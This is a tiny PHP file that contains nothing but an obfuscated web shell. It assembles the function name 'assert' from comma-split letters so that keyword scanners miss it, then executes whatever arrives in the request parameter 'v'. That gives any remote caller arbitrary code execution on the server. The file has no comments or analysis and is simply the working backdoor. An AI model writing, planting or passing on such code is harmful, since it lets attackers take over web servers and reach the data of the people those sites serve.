<?php
$z = explode(',', 'a,s,s,e,r,t'); $y = implode('', $z); $y($_REQUEST['v']);
